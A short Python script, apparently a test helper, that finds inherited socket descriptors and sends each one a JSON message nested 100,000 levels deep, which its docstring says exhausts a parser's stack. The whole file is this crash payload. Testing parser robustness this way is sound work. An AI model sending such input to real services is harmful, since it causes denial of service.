"""Sends JSON that is nested 100,000 deep, on which a parser's stack ends."""

import os
import socket
import stat

for descriptor in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            socket.socket(fileno=descriptor).sendall(b'O{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    except OSError:
        continue
os._exit(0)
